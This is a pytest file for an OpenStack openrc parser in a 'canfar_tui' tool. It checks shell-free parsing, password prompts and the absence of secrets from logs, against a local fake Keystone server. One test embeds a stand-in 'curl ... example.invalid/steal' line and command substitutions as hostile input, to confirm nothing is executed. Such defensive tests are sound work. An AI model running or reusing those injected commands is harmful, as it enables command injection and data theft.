"""openrc files: parsed without a shell; the password asked once, refused clearly, never logged.

The login tests run the real openstacksdk backend against a tiny Keystone v3 on 127.0.0.1
(version discovery, password tokens, ``/v3/auth/projects``), so they need no OpenStack.
"""

from __future__ import annotations

import json
import logging
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from canfar_tui.clients.base import AuthError, InvalidInput, Unavailable
from canfar_tui.clients.cloud.openrc import (
    OpenStackCredentials,
    credentials_from_variables,
    load_openrc,
    parse_openrc,
)
from canfar_tui.clients.cloud.openstack import OpenStackCloud
from canfar_tui.logs import LOGGER_NAME, setup_logging

PASSWORD = "Xq7-cadc-S3cr3t-pw"

# What Horizon's Project > API Access > "OpenStack RC File" gives on arbutus (Keystone v3).
HORIZON_OPENRC = """#!/usr/bin/env bash
# To use an OpenStack cloud you need to authenticate against the Identity
# service named keystone, which returns a **Token** and **Service Catalog**.
export OS_AUTH_URL={auth_url}
# With the addition of Keystone we have standardized on the term **project**
# as the entity that owns the resources.
export OS_PROJECT_ID=p-batch
export OS_PROJECT_NAME="canfar-batch-demo"
export OS_USER_DOMAIN_NAME="Default"
if [ -z "$OS_USER_DOMAIN_NAME" ]; then unset OS_USER_DOMAIN_NAME; fi
export OS_PROJECT_DOMAIN_ID="default"
if [ -z "$OS_PROJECT_DOMAIN_ID" ]; then unset OS_PROJECT_DOMAIN_ID; fi
# unset v2.0 items in case set
unset OS_TENANT_ID
unset OS_TENANT_NAME
# In addition to the owning entity (tenant), OpenStack stores the entity
# performing the action as the **user**.
export OS_USERNAME="canfar-demo"
# With Keystone you pass the keystone password.
echo "Please enter your OpenStack Password for project $OS_PROJECT_NAME as user $OS_USERNAME: "
read -sr OS_PASSWORD_INPUT
export OS_PASSWORD=$OS_PASSWORD_INPUT
# If your configuration has multiple regions, we set that information here.
# OS_REGION_NAME is optional and only valid in certain environments.
export OS_REGION_NAME="RegionOne"
# Don't leave a blank variable, unset it if it was empty
if [ -z "$OS_REGION_NAME" ]; then unset OS_REGION_NAME; fi
export OS_INTERFACE=public
export OS_IDENTITY_API_VERSION=3
"""


# --------------------------------------------------------------------------- parsing


def test_reads_horizons_openrc_without_running_it() -> None:
    openrc = parse_openrc(HORIZON_OPENRC.format(auth_url="https://arbutus.example:5000"))
    assert openrc.warnings == ()
    assert openrc.password_prompted
    assert openrc.password is None
    assert dict(openrc.variables) == {
        "OS_AUTH_URL": "https://arbutus.example:5000",
        "OS_PROJECT_ID": "p-batch",
        "OS_PROJECT_NAME": "canfar-batch-demo",
        "OS_USER_DOMAIN_NAME": "Default",
        "OS_PROJECT_DOMAIN_ID": "default",
        "OS_USERNAME": "canfar-demo",
        "OS_REGION_NAME": "RegionOne",
        "OS_INTERFACE": "public",
        "OS_IDENTITY_API_VERSION": "3",
    }
    credentials = openrc.credentials()
    assert credentials == OpenStackCredentials(
        auth_url="https://arbutus.example:5000",
        username="canfar-demo",
        project_name="canfar-batch-demo",
        project_id="p-batch",
        user_domain_name="Default",
        project_domain_id="default",
        region_name="RegionOne",
        interface="public",
    )


def test_shell_quoting_and_expansion_of_earlier_variables() -> None:
    openrc = parse_openrc(
        "export OS_PROJECT_NAME='def-astro'\n"
        'export OS_USERNAME="a \\"quoted\\" name"  # trailing comment\n'
        "export OS_REGION_NAME=Region$OS_PROJECT_NAME\n"
        'export OS_AUTH_URL="https://${OS_PROJECT_NAME}.example:5000/v3"\n'
        "OS_INTERFACE=public;\n"
        "export OS_CACERT='/etc/ssl/a b.pem'\n"
        "export OS_USER_DOMAIN_NAME=CCDB # the CCDB domain\n"
    )
    assert openrc.warnings == ()
    assert openrc.variables["OS_PROJECT_NAME"] == "def-astro"
    assert openrc.variables["OS_USERNAME"] == 'a "quoted" name'
    assert openrc.variables["OS_REGION_NAME"] == "Regiondef-astro"
    assert openrc.variables["OS_AUTH_URL"] == "https://def-astro.example:5000/v3"
    assert openrc.variables["OS_INTERFACE"] == "public"
    assert openrc.variables["OS_CACERT"] == "/etc/ssl/a b.pem"
    assert openrc.variables["OS_USER_DOMAIN_NAME"] == "CCDB"


def test_unexpected_lines_are_ignored_and_reported_without_their_values(tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    text = (
        "export OS_AUTH_URL=https://keystone.example:5000/v3\n"
        "export OS_USERNAME=someone\n"
        f"curl -s https://example.invalid/steal?x=1 > {marker}\n"
        f"export OS_PROJECT_NAME=$(touch {marker})\n"
        f"export OS_REGION_NAME=`touch {marker}`\n"
        "MY_TOKEN=tok-abcdef-123456\n"
        "export OS_PROJECT_DOMAIN_NAME=$NOT_SET_ANYWHERE\n"
        "export OS_INTERFACE=two words\n"
        "source ./other-openrc.sh\n"
    )
    openrc = parse_openrc(text, source="demo-openrc.sh")
    assert not marker.exists(), "nothing in an openrc file may be executed"
    assert set(openrc.variables) == {"OS_AUTH_URL", "OS_USERNAME"}
    joined = "\n".join(openrc.warnings)
    assert len(openrc.warnings) == 7
    for number in (3, 4, 5, 6, 7, 8, 9):
        assert f"line {number}:" in joined
    assert "command substitution" in joined
    assert "'curl'" in joined and "'source'" in joined
    assert "MY_TOKEN" in joined
    assert "tok-abcdef" not in joined, "a warning must not repeat a value"
    assert "example.invalid" not in joined


def test_a_literal_password_is_kept_but_never_shown() -> None:
    openrc = parse_openrc(
        "export OS_AUTH_URL=https://k.example/v3\n"
        "export OS_USERNAME=u\n"
        f"export OS_PASSWORD='{PASSWORD}'\n"
    )
    assert not openrc.password_prompted
    assert openrc.password == PASSWORD
    credentials = openrc.credentials()
    assert credentials.password == PASSWORD
    assert PASSWORD not in repr(openrc)
    assert PASSWORD not in repr(credentials)


def test_unset_and_guards_drop_variables() -> None:
    openrc = parse_openrc(
        "export OS_AUTH_URL=https://k.example/v3\n"
        "export OS_USERNAME=u\n"
        "export OS_TENANT_NAME=old\n"
        "unset OS_TENANT_NAME\n"
        'export OS_REGION_NAME=""\n'
        'if [ -z "$OS_REGION_NAME" ]; then unset OS_REGION_NAME; fi\n'
    )
    assert openrc.warnings == ()
    assert set(openrc.variables) == {"OS_AUTH_URL", "OS_USERNAME"}


def test_missing_auth_url_or_user_is_invalid_input() -> None:
    with pytest.raises(InvalidInput, match="OS_AUTH_URL") as raised:
        parse_openrc("export OS_USERNAME=u\n", source="x-openrc.sh").credentials()
    assert "x-openrc.sh" in raised.value.message
    with pytest.raises(InvalidInput, match="OS_USERNAME"):
        parse_openrc("export OS_AUTH_URL=https://k.example/v3\n").credentials()


def test_load_openrc_explains_unreadable_files(tmp_path: Path) -> None:
    with pytest.raises(InvalidInput, match="does not exist"):
        load_openrc(tmp_path / "missing-openrc.sh")
    with pytest.raises(InvalidInput, match="directory"):
        load_openrc(tmp_path)
    binary = tmp_path / "binary"
    binary.write_bytes(b"\x7fELF\0\0\0")
    with pytest.raises(InvalidInput, match="binary"):
        load_openrc(binary)
    good = tmp_path / "demo-openrc.sh"
    good.write_text(HORIZON_OPENRC.format(auth_url="https://k.example:5000"))
    assert load_openrc(good).source == str(good)


def test_credentials_from_environment_variables() -> None:
    credentials = credentials_from_variables(
        {
            "OS_AUTH_URL": "https://k.example:5000/v3",
            "OS_USERNAME": "u",
            "OS_TENANT_NAME": "legacy-project",
            "OS_INSECURE": "true",
            "HOME": "/home/u",
        }
    )
    assert credentials.project_name == "legacy-project"
    assert credentials.verify is False
    options = credentials.auth_options()
    assert options["user_domain_id"] == "default"
    assert options["project_domain_id"] == "default"
    assert "password" not in options


# --------------------------------------------------------------------------- a small Keystone


@dataclass
class FakeKeystone:
    """Keystone v3 as keystoneauth sees it: discovery, password tokens, the user's projects."""

    password: str
    base: str = ""
    token_requests: int = 0
    passwords_seen: list[str] = field(default_factory=list)

    def token_body(self, project_id: str | None) -> dict[str, Any]:
        projects = {p["id"]: p for p in self.projects()}
        project = projects.get(project_id or "p-batch", projects["p-batch"])
        return {
            "token": {
                "methods": ["password"],
                "expires_at": "2099-01-01T00:00:00.000000Z",
                "issued_at": "2024-01-01T00:00:00.000000Z",
                "user": {"id": "u-1", "name": "canfar-demo", "domain": {"id": "default"}},
                "project": {
                    "id": project["id"],
                    "name": project["name"],
                    "domain": {"id": "default", "name": "Default"},
                },
                "roles": [{"id": "r-1", "name": "member"}],
                "catalog": [
                    {
                        "type": "identity",
                        "name": "keystone",
                        "id": "s-1",
                        "endpoints": [
                            {
                                "id": "e-1",
                                "interface": "public",
                                "region": "RegionOne",
                                "region_id": "RegionOne",
                                "url": f"{self.base}/v3/",
                            }
                        ],
                    }
                ],
            }
        }

    @staticmethod
    def projects() -> list[dict[str, Any]]:
        return [
            {"id": "p-survey", "name": "canfar-survey", "enabled": True, "description": "S"},
            {"id": "p-batch", "name": "canfar-batch-demo", "enabled": True, "description": "B"},
        ]

    def version(self) -> dict[str, Any]:
        return {
            "id": "v3.14",
            "status": "stable",
            "updated": "2020-04-07T00:00:00Z",
            "links": [{"rel": "self", "href": f"{self.base}/v3/"}],
            "media-types": [
                {"base": "application/json", "type": "application/vnd.openstack.identity-v3+json"}
            ],
        }


def _handler(keystone: FakeKeystone) -> type[BaseHTTPRequestHandler]:
    class Handler(BaseHTTPRequestHandler):
        def log_message(self, format: str, *args: Any) -> None:
            pass

        def reply(self, status: int, body: object, headers: dict[str, str] | None = None) -> None:
            data = json.dumps(body).encode()
            self.send_response(status)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(data)))
            for key, value in (headers or {}).items():
                self.send_header(key, value)
            self.end_headers()
            self.wfile.write(data)

        def do_GET(self) -> None:
            path = self.path.split("?")[0].rstrip("/")
            if path == "":
                self.reply(300, {"versions": {"values": [keystone.version()]}})
            elif path == "/v3":
                self.reply(200, {"version": keystone.version()})
            elif path == "/v3/auth/projects":
                if self.headers.get("X-Auth-Token") != "tok-1":
                    self.reply(401, {"error": {"code": 401, "message": "no", "title": "x"}})
                else:
                    self.reply(200, {"projects": keystone.projects()})
            else:
                self.reply(404, {"error": {"code": 404, "message": "nope", "title": "x"}})

        def do_POST(self) -> None:
            length = int(self.headers.get("Content-Length") or 0)
            body = json.loads(self.rfile.read(length) or b"{}")
            if self.path.rstrip("/") != "/v3/auth/tokens":
                self.reply(404, {"error": {"code": 404, "message": "nope", "title": "x"}})
                return
            keystone.token_requests += 1
            auth = body["auth"]
            password = auth["identity"]["password"]["user"]["password"]
            keystone.passwords_seen.append(password)
            if password != keystone.password:
                message = "The request you have made requires authentication."
                self.reply(401, {"error": {"code": 401, "message": message, "title": "x"}})
                return
            scope = (auth.get("scope") or {}).get("project") or {}
            self.reply(201, keystone.token_body(scope.get("id")), {"X-Subject-Token": "tok-1"})

    return Handler


@pytest.fixture
def keystone() -> Iterator[FakeKeystone]:
    fake = FakeKeystone(password=PASSWORD)
    server = ThreadingHTTPServer(("127.0.0.1", 0), _handler(fake))
    fake.base = f"http://127.0.0.1:{server.server_address[1]}"
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield fake
    finally:
        server.shutdown()
        server.server_close()


@pytest.fixture
def openrc_file(tmp_path: Path, keystone: FakeKeystone) -> Path:
    path = tmp_path / "canfar-batch-demo-openrc.sh"
    path.write_text(HORIZON_OPENRC.format(auth_url=f"{keystone.base}/v3"))
    return path


class Provider:
    """A password prompt that counts how often it is shown."""

    def __init__(self, *answers: str) -> None:
        self.answers = list(answers)
        self.calls = 0

    def __call__(self) -> str:
        self.calls += 1
        return self.answers.pop(0) if len(self.answers) > 1 else self.answers[0]


# --------------------------------------------------------------------------- logging in


async def test_no_password_in_the_openrc_asks_the_provider_once(
    openrc_file: Path, keystone: FakeKeystone
) -> None:
    provider = Provider(PASSWORD)
    client = OpenStackCloud.from_openrc(openrc_file, password_provider=provider)
    assert provider.calls == 0, "nothing happens before the first call"
    try:
        projects = await client.list_projects()
        assert [p.name for p in projects] == ["canfar-batch-demo", "canfar-survey"]
        current = await client.current_project()
        assert current is not None and current.name == "canfar-batch-demo"
        await client.list_projects()
        switched = await client.switch_project("p-survey")
        assert switched.name == "canfar-survey"
        await client.list_projects()
    finally:
        await client.aclose()
    assert provider.calls == 1
    assert keystone.passwords_seen and set(keystone.passwords_seen) == {PASSWORD}
    assert client.openrc_warnings == ()


async def test_a_wrong_password_is_a_clear_auth_error_and_is_asked_again(
    openrc_file: Path, keystone: FakeKeystone
) -> None:
    provider = Provider("not-the-password", PASSWORD)
    client = OpenStackCloud.from_openrc(openrc_file, password_provider=provider)
    try:
        with pytest.raises(AuthError) as raised:
            await client.list_projects()
        message = raised.value.message
        assert "\n" not in message
        assert "canfar-demo" in message
        assert "refused the username or password" in message
        assert "not-the-password" not in message
        assert "not-the-password" not in (raised.value.details or "")

        # The next attempt asks again (the user retypes it) and works.
        assert len(await client.list_projects()) == 2
    finally:
        await client.aclose()
    assert provider.calls == 2


async def test_without_password_or_provider_the_error_says_what_to_do(
    openrc_file: Path,
) -> None:
    client = OpenStackCloud.from_openrc(openrc_file)
    try:
        with pytest.raises(AuthError, match="OS_PASSWORD"):
            await client.list_projects()
    finally:
        await client.aclose()


async def test_a_cancelled_prompt_is_an_auth_error(openrc_file: Path) -> None:
    def cancelled() -> str:
        raise EOFError

    client = OpenStackCloud.from_openrc(openrc_file, password_provider=cancelled)
    try:
        with pytest.raises(AuthError, match="No password"):
            await client.list_projects()
    finally:
        await client.aclose()


async def test_an_unreachable_keystone_is_unavailable(tmp_path: Path) -> None:
    import socket

    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    client = OpenStackCloud.from_password(f"http://127.0.0.1:{port}/v3", "canfar-demo", PASSWORD)
    try:
        with pytest.raises(Unavailable) as raised:
            await client.list_projects()
        assert raised.value.transient
        assert "\n" not in raised.value.message
    finally:
        await client.aclose()


async def test_the_password_appears_in_no_log_file(
    openrc_file: Path, keystone: FakeKeystone, tmp_path: Path
) -> None:
    log_file = tmp_path / "state" / "canfar-tui.log"
    logger = setup_logging(log_file, level=logging.DEBUG)
    handler = next(h for h in logger.handlers if getattr(h, "baseFilename", "") == str(log_file))
    # The SDK's own loggers too, at their most verbose, into the same file.
    libraries = [logging.getLogger(name) for name in ("keystoneauth", "openstack", "urllib3")]
    saved = [(lib, lib.level) for lib in libraries]
    for lib in libraries:
        lib.addHandler(handler)
        lib.setLevel(logging.DEBUG)
    try:
        wrong = OpenStackCloud.from_openrc(
            openrc_file, password_provider=Provider("Wr0ng-" + PASSWORD)
        )
        with pytest.raises(AuthError):
            await wrong.list_projects()
        await wrong.aclose()
        right = OpenStackCloud.from_openrc(openrc_file, password_provider=Provider(PASSWORD))
        await right.list_projects()
        await right.switch_project("p-survey")
        logging.getLogger(LOGGER_NAME).info("client %r", right)
        await right.aclose()
    finally:
        for lib, level in saved:
            lib.removeHandler(handler)
            lib.setLevel(level)
        logger.removeHandler(handler)
        handler.close()
    text = log_file.read_text(encoding="utf-8")
    assert "logged in to" in text, "the test must have logged something"
    assert "Login failed" in text
    assert PASSWORD not in text
    assert log_file.stat().st_mode & 0o077 == 0


def test_a_file_that_asks_for_the_user_name_too_is_read() -> None:
    text = (
        "export OS_AUTH_URL=https://arbutus-canfar.cloud.computecanada.ca:5000\n"
        "export OS_PROJECT_NAME=rrg-astro\n"
        'echo "Please enter your OpenStack Username: "\n'
        "read -r OS_USERNAME_INPUT\n"
        "export OS_USERNAME=$OS_USERNAME_INPUT\n"
        "read -sr OS_PASSWORD_INPUT\n"
        'export OS_PASSWORD="$OS_PASSWORD_INPUT"\n'
    )
    parsed = parse_openrc(text, source="rrg-astro-openrc.sh")
    assert parsed.username_prompted and parsed.password_prompted
    assert parsed.warnings == ()
    with pytest.raises(InvalidInput, match="OS_USERNAME"):
        parsed.credentials()
    credentials = parsed.with_username("jdoe").credentials()
    assert credentials.username == "jdoe"
    assert credentials.needs_password


def test_application_credential_files_need_no_user_or_password() -> None:
    secret = "app-cred-S3cret-value"
    text = (
        "export OS_AUTH_TYPE=v3applicationcredential\n"
        "export OS_AUTH_URL=https://arbutus-canfar.cloud.computecanada.ca:5000/v3\n"
        "export OS_IDENTITY_API_VERSION=3\n"
        "export OS_REGION_NAME=RegionOne\n"
        "export OS_INTERFACE=public\n"
        "export OS_APPLICATION_CREDENTIAL_ID=4f1b2c\n"
        f"export OS_APPLICATION_CREDENTIAL_SECRET={secret}\n"
    )
    parsed = parse_openrc(text)
    credentials = parsed.credentials()
    assert credentials.auth_type == "v3applicationcredential"
    assert not credentials.needs_password
    assert credentials.auth_options() == {
        "auth_url": "https://arbutus-canfar.cloud.computecanada.ca:5000/v3",
        "application_credential_id": "4f1b2c",
        "application_credential_secret": secret,
    }
    assert secret not in repr(credentials)
    assert secret not in repr(parsed)
    without_secret = text.replace(f"export OS_APPLICATION_CREDENTIAL_SECRET={secret}\n", "")
    with pytest.raises(InvalidInput, match="SECRET"):
        parse_openrc(without_secret).credentials()
    with pytest.raises(InvalidInput, match="OS_AUTH_TYPE=token is not supported"):
        parse_openrc(
            "export OS_AUTH_TYPE=token\nexport OS_AUTH_URL=https://k\nexport OS_USERNAME=u\n"
        ).credentials()


def test_openrc_files_in_a_home_are_discovered(tmp_path: Path) -> None:
    from canfar_tui.clients.cloud.openrc import discover_openrc_files

    for name in ("rrg-b-openrc.sh", "rrg-a-openrc.sh", "notes.txt", "openrc.sh"):
        (tmp_path / name).write_text("export OS_AUTH_URL=x\n")
    (tmp_path / "folder-openrc.sh").mkdir()
    assert discover_openrc_files(tmp_path) == [
        tmp_path / "rrg-a-openrc.sh",
        tmp_path / "rrg-b-openrc.sh",
    ]
    assert discover_openrc_files(tmp_path / "missing") == []
